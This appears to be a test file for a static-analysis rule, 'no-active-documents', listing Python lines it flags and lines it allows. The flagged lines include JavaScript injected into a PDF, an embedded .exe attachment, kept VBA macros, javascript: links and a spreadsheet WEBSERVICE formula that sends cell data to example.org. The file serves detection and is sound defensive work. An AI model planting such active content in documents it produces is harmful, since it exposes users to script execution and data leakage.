import openpyxl
from pypdf import PdfWriter

writer = PdfWriter()
# ruleid: no-active-documents
writer.add_js("app.alert(1)")
# ruleid: no-active-documents
writer.add_attachment("a.exe", b"x")
# ruleid: no-active-documents
book = openpyxl.load_workbook("a.xlsm", keep_vba=True)
sheet = openpyxl.Workbook().active
# ruleid: no-active-documents
sheet["A1"] = '=WEBSERVICE("http://example.org/" & B1)'

# ruleid: no-active-documents
attach = writer.add_attachment
# ruleid: no-active-documents
title.set_url("javascript:alert(1)")
# ruleid: no-active-documents
axes.scatter([1], [2], urls=["https://example.org", "JavaScript:alert(1)"])

# ok: no-active-documents
title.set_url("https://example.org")
# ok: no-active-documents
unsafe = link.startswith("javascript:")
# ok: no-active-documents
writer.add_blank_page(100, 100)
# ok: no-active-documents
sheet["A2"] = "=SUM(B1:B9)"
# ok: no-active-documents
other = openpyxl.load_workbook("a.xlsx", keep_vba=False)
